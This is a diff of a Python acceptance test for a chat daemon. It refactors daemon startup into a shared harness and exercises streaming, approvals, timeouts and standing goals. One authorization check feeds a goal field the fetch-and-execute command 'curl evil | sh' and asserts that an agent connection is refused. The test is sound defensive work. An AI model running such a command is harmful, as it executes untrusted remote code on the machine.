@@ -20,7 +20,6 @@ reloads as active). Every wait is bounded; prints "ok ..." per property and exit
 failure."""
 import json
 import os
-import signal
 import socket
 import subprocess
 import sys
@@ -30,8 +29,8 @@ import time
 
 here = os.path.dirname(os.path.abspath(__file__))
 sys.path.insert(0, os.path.join(here, "..", "compat"))
-from wsclient import WSClient  # noqa: E402
-from harness import fail, free_port, ok, wait_for  # noqa: E402
+import harness  # noqa: E402
+from harness import call, error_of, fail, ok, wait_for  # noqa: E402
 
 binary, agent_python = sys.argv[1], sys.argv[2]
 TOKEN = "chat-acceptance-daemon-token"
@@ -41,61 +40,9 @@ home = tempfile.mkdtemp(prefix="car-chat.")
 daemons = []
 
 
-class Daemon:
-    def __init__(self):
-        self.port = free_port()
-        self.log = open(os.path.join(home, f"daemon-{self.port}.log"), "w")
-        self.process = subprocess.Popen(
-            [binary, "--uds", "disabled", "--port", str(self.port), "--log-level", "info"],
-            env={"CAR_HOME": home, "HOME": home, "PATH": "/usr/bin:/bin", "CAR_AUTH_TOKEN": TOKEN,
-                 "CAR_CHAT_ACK_TIMEOUT": str(ACK_TIMEOUT), "CAR_CHAT_SILENCE_TIMEOUT": str(SILENCE)},
-            stdin=subprocess.DEVNULL, stdout=self.log, stderr=self.log)
-        daemons.append(self)
-        wait_for(f"the daemon on port {self.port}", self.listening, 15)
-
-    def listening(self):
-        if self.process.poll() is not None:
-            fail(f"the daemon exited with {self.process.returncode} (log {self.log.name})")
-        try:
-            socket.create_connection(("127.0.0.1", self.port), timeout=0.2).close()
-            return True
-        except OSError:
-            return False
-
-    def client(self, must=True, **auth):
-        c = WSClient(self.port, timeout=30)
-        reply = c.call("auth", "session.auth", auth or {"token": TOKEN})
-        if "error" in reply:
-            c.close()
-            if must:
-                fail(f"session.auth {list(auth)} refused: {reply['error']}")
-            return None
-        return c
-
-    def host(self):
-        with open(os.path.join(home, "ai.parslee.car", "host-token")) as f:
-            return self.client(host_token=f.read().strip())
-
-    def stop(self):
-        self.process.send_signal(signal.SIGTERM)
-        try:
-            self.process.wait(20)
-        except subprocess.TimeoutExpired:
-            fail("the daemon did not stop within 20 s of SIGTERM")
-
-
-def call(c, method, params=None):
-    reply = c.call(method, method, params)
-    if "error" in reply:
-        fail(f"{method} {json.dumps(params)[:200]} answered {reply['error']}")
-    return reply["result"]
-
-
-def error_of(c, method, params=None):
-    reply = c.call(method, method, params)
-    if "error" not in reply:
-        fail(f"{method} {json.dumps(params)[:200]} should have failed, answered {json.dumps(reply)[:300]}")
-    return reply["error"]
+def Daemon():
+    return harness.Daemon(binary, home, TOKEN, daemons,
+                          env={"CAR_CHAT_ACK_TIMEOUT": str(ACK_TIMEOUT), "CAR_CHAT_SILENCE_TIMEOUT": str(SILENCE)})
 
 
 def events(c, session_id, until_terminal=True, seconds=20.0, limit=None):
@@ -162,7 +109,8 @@ class RawAgent:
     """An agent connection written by hand: attaches as `agent_id` and answers agent.chat as told."""
 
     def __init__(self, daemon, agent_id, answer, must=True):
-        self.c = daemon.client(must, token=manifest_token(agent_id), agent_id=agent_id)
+        auth = {"token": manifest_token(agent_id), "agent_id": agent_id}
+        self.c = daemon.session(**auth) if must else daemon.client(**auth)
         self.answer = answer  # None: never answer; else the JSON-RPC reply members to send
         self.turns = []
 
@@ -215,7 +163,7 @@ try:
     wait_for("the chat agent's boot line", lambda: any("attached as pid" in line for line in agent_lines(host)))
 
     # 1. One streamed reply, whole and in order.
-    a = daemon.client()
+    a = daemon.session()
     chat(a, "stream 200 a", "s-whole")
     evs = events(a, "s-whole")
     got, want = tokens_of(evs, "a")
@@ -224,7 +172,7 @@ try:
     ok("a reply of 200 tokens streams to its host whole, in order, then done")
 
     # 2. Two hosts, one agent, at once: each only its own stream.
-    b = daemon.client()
+    b = daemon.session()
     chat(a, "stream 300 x", "s-x")
     chat(b, "stream 300 y", "s-y")
     for c, sid, tag in ((a, "s-x", "x"), (b, "s-y", "y")):
@@ -254,7 +202,7 @@ try:
     pending = events(a, "s-approve", until_terminal=False, limit=1)[0]
     if pending["kind"] != "approval_pending" or json.loads(pending["delta"])["approval_id"] != "ap-1":
         fail(f"expected approval_pending with approval_id ap-1: {pending}")
-    third = daemon.client()
+    third = daemon.session()
     refused = error_of(third, "agents.chat.approve", {"session_id": "s-approve", "approval_id": "ap-1", "decision": True})
     if refused["code"] != -32002:
         fail(f"a third connection must not approve another host's turn: {refused}")
@@ -318,7 +266,7 @@ try:
     if end[-1]["delta"]["reason"] != "agent_disconnected":
         fail(f"a dropped agent connection must end its turn: {end}")
     unknown_before = status(host)["dropped"]["unknown_session"]
-    reborn = wait_for("flaky to attach again", lambda: (lambda r: r if r.c else None)(RawAgent(daemon, "flaky", {"result": {"accepted": True}}, must=False)))
+    reborn = wait_for("flaky to attach again", lambda: (lambda r: None if isinstance(r.c, dict) else r)(RawAgent(daemon, "flaky", {"result": {"accepted": True}}, must=False)))
     reborn.event("s-flaky", "token", "stray from the old turn")
     chat(a, "next", "s-flaky-2", agent="flaky")
     reborn.serve(0.3)
@@ -343,7 +291,7 @@ try:
     ok(f"a turn silent for {SILENCE} s (CAR_CHAT_SILENCE_TIMEOUT) ends with a terminal error after {waited:.1f} s; the agent gets agent.chat.cancel")
 
     # 10. The host goes away: its turns are cancelled at the agent and nothing is left behind.
-    gone = daemon.client()
+    gone = daemon.session()
     chat(gone, "hang", "s-gone")
     events(gone, "s-gone", until_terminal=False, limit=1)
     gone.close()
@@ -353,7 +301,7 @@ try:
     ok("a host that disconnects has its turns dropped and cancelled at the agent")
 
     # 11. 10 concurrent chats x 1,000 tokens, each at its own host.
-    hosts = [daemon.client() for _ in range(10)]
+    hosts = [daemon.session() for _ in range(10)]
     results = {}
 
     def run_chat(i):
@@ -411,7 +359,7 @@ try:
         fail("goal.clear should remove one goal, then the rest")
     ok("standing goals: goal.set trims and clamps, the goal rides along, goal_evaluated/done update it, "
        "chat-goals.json (0600) survives a restart (a turn in flight at the stop included) with running reloaded as active; goal.clear")
-    agent_conn = daemon.client(token=manifest_token("mute"), agent_id="mute")
+    agent_conn = daemon.session(token=manifest_token("mute"), agent_id="mute")
     refused = error_of(agent_conn, "goal.set", {"session_id": "g-planted", "check": "curl evil | sh"})
     if refused["code"] != -32002:
         fail(f"an agent connection must not set standing goals: {refused}")
